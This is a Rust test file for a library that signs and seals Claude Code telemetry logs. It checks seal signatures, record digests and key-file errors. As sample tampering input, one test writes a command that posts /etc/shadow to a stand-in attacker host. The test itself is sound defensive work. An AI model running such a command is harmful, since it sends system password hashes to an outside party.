//! Tamper evidence (README "Tamper evidence") on real Claude Code telemetry:
//! every Claude log record of a capture is listed in the request's seal,
//! the seal's signature holds, and each record's digest in it is the digest
//! of the record as the exporter stores it (re-read here with this suite's
//! own reading of the exporter's ECS mode, not the library's): it changes
//! when one stored field changes or one is added.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use cowork_ecs::seal::{self, FIELD_CHAIN, FIELD_ITEMS, FIELD_SESSIONS};
use cowork_ecs::signature::{self, FIELD_SIGNATURE};
use cowork_ecs::{Error, Transformer};
use serde_json::{Value as Json, json};
use std::collections::BTreeMap;

/// RFC 8032's test key 1, as PKCS#8 PEM.
const KEY: &str = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g\n-----END PRIVATE KEY-----\n";

fn key_file(name: &str, text: &str) -> std::path::PathBuf {
    let path = std::env::temp_dir().join(format!("cowork-ecs-{name}-{}.pem", std::process::id()));
    std::fs::write(&path, text).unwrap();
    path
}

/// The stored document of a record under `resource` (ECS mode): the
/// resource's attributes as the exporter renames them (those of Claude
/// Code's resource), the record's under their stored names, its
/// `data_stream.*`, `@timestamp` in nanoseconds, the string body as
/// `message`.
fn stored(
    resource: &cowork_ecs::otlp::Resource,
    record: &cowork_ecs::otlp::LogRecord,
) -> BTreeMap<String, Json> {
    let mut doc = BTreeMap::new();
    for kv in &resource.attributes {
        let v = value_json(kv.value.as_ref().unwrap().value.as_ref().unwrap());
        let name = match kv.key.as_str() {
            "host.arch" => "host.architecture",
            "os.type" => "host.os.platform",
            "os.version" => "host.os.version",
            other => other,
        };
        doc.insert(name.to_owned(), v);
    }
    for (k, v) in flat_attributes(record) {
        let k = (signature::ECS_LOG_RENAMES.iter())
            .find(|(from, _)| *from == k)
            .map_or(k, |(_, to)| (*to).to_owned());
        doc.insert(k, v);
    }
    doc.entry("data_stream.type".into())
        .or_insert(json!("logs"));
    doc.insert("@timestamp".into(), json!(record.time_unix_nano));
    if let Some(cowork_ecs::otlp::Value::StringValue(s)) =
        record.body.as_ref().and_then(|b| b.value.as_ref())
    {
        doc.insert("message".into(), json!(s));
    }
    doc
}

/// A seal record's stored fields (its attributes, `@timestamp` in ns).
fn seal_fields(record: &cowork_ecs::otlp::LogRecord) -> BTreeMap<String, Json> {
    let mut fields: BTreeMap<String, Json> = flat_attributes(record).into_iter().collect();
    fields.insert("@timestamp".into(), json!(record.time_unix_nano));
    fields
}

#[test]
fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows() {
    let path = key_file("signing", KEY);
    let config = json!({"signing": {"key_file": path}}).to_string();
    let t = Transformer::from_json_config(config.as_bytes()).unwrap();
    let mut req = read_request(&testdata().join("captures/bash_ok/logs.json"));
    t.transform_logs_request(&mut req, None);
    std::fs::remove_file(&path).unwrap();

    let (seals, claude): (Vec<_>, Vec<_>) = req.resource_logs.iter().partition(|r| {
        r.resource.as_ref().unwrap().attributes[0]
            .value
            .as_ref()
            .unwrap()
            .value
            == Some(cowork_ecs::otlp::Value::StringValue(
                cowork_ecs::ecs::SEAL_SERVICE_NAME.into(),
            ))
    });
    assert_eq!(seals.len(), 1, "one seal for the request");
    let seal = seal_fields(&seals[0].scope_logs[0].log_records[0]);
    let public = signature::public_key_from_pem(KEY).unwrap();
    let key_id = signature::key_id(&public);
    let keys = |id: &str| (id == key_id).then_some(&public);
    assert_eq!(seal::verify_seal(&seal, keys), Ok(key_id.clone()));
    let mut forged = seal.clone();
    forged.insert(FIELD_SESSIONS.into(), json!(["another-session"]));
    assert_eq!(
        seal::verify_seal(&forged, keys),
        Err(seal::SealProblem::BadSignature)
    );

    assert!(
        seal[FIELD_ITEMS].is_string(),
        "one string, a line per record"
    );
    let entries: Vec<String> = (seal::item_entries(&seal).into_iter())
        .map(str::to_owned)
        .collect();
    let listed: BTreeMap<String, seal::ItemEntry<'_>> = (entries.iter())
        .map(|e| {
            let entry = seal::parse_item(e).unwrap();
            assert_eq!(entry.session, Some(0), "one session");
            assert_eq!((entry.group, entry.v1), (Some(0), false), "one resource");
            (entry.id.to_owned(), entry)
        })
        .collect();
    let seal_id = format!(
        "{}-{}",
        seal[FIELD_CHAIN].as_str().unwrap(),
        seal[seal::FIELD_NUMBER]
    );
    let mut count = 0;
    for resource in &claude {
        for record in resource.scope_logs.iter().flat_map(|s| &s.log_records) {
            count += 1;
            let mut doc = stored(resource.resource.as_ref().unwrap(), record);
            assert_eq!(
                doc[seal::FIELD_SEAL_ID],
                json!(seal_id),
                "the record names its seal"
            );
            assert!(
                !doc.contains_key(FIELD_SIGNATURE),
                "no signature per record"
            );
            let id = doc["elasticsearch.document_id"]
                .as_str()
                .unwrap()
                .to_owned();
            let entry = listed[&id];
            let digest = signature::hex(&seal::entry_digest(&doc, &entry, &seal));
            assert_eq!(entry.digest, digest, "{doc:#?}");
            let field = if doc.contains_key("process.command_line") {
                "process.command_line"
            } else {
                "event.action"
            };
            doc.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
            assert_ne!(
                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
                digest,
                "a changed field"
            );
            doc.remove(field);
            doc.insert("user.name".into(), json!("someone"));
            assert_ne!(
                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
                digest,
                "an added field"
            );
            doc.remove("user.name");
            doc.insert("host.name".into(), json!("elsewhere"));
            assert_ne!(
                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
                digest,
                "a changed resource field"
            );
        }
    }
    assert!(count >= 5);
    assert_eq!(listed.len(), count, "every record, once");
}

#[test]
fn a_key_file_that_is_missing_or_not_a_key_stops_the_start_naming_the_key() {
    let bad = key_file(
        "bad",
        "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
    );
    for path in [bad.clone(), "/nonexistent/signing.pem".into()] {
        let config = json!({"signing": {"key_file": path}}).to_string();
        let err = Transformer::from_json_config(config.as_bytes()).unwrap_err();
        assert!(
            matches!(&err, Error::ConfigInvalid { field, .. } if field == "signing.key_file"),
            "{err}"
        );
    }
    std::fs::remove_file(&bad).unwrap();
    // Unset or empty: not signed.
    let t = Transformer::from_json_config(br#"{"signing": {"key_file": ""}}"#).unwrap();
    let mut req = read_request(&testdata().join("captures/bash_ok/logs.json"));
    t.transform_logs_request(&mut req, None);
    assert!(
        records(&req)
            .iter()
            .all(|r| !flat_attributes(r).contains_key(FIELD_SIGNATURE))
    );
}
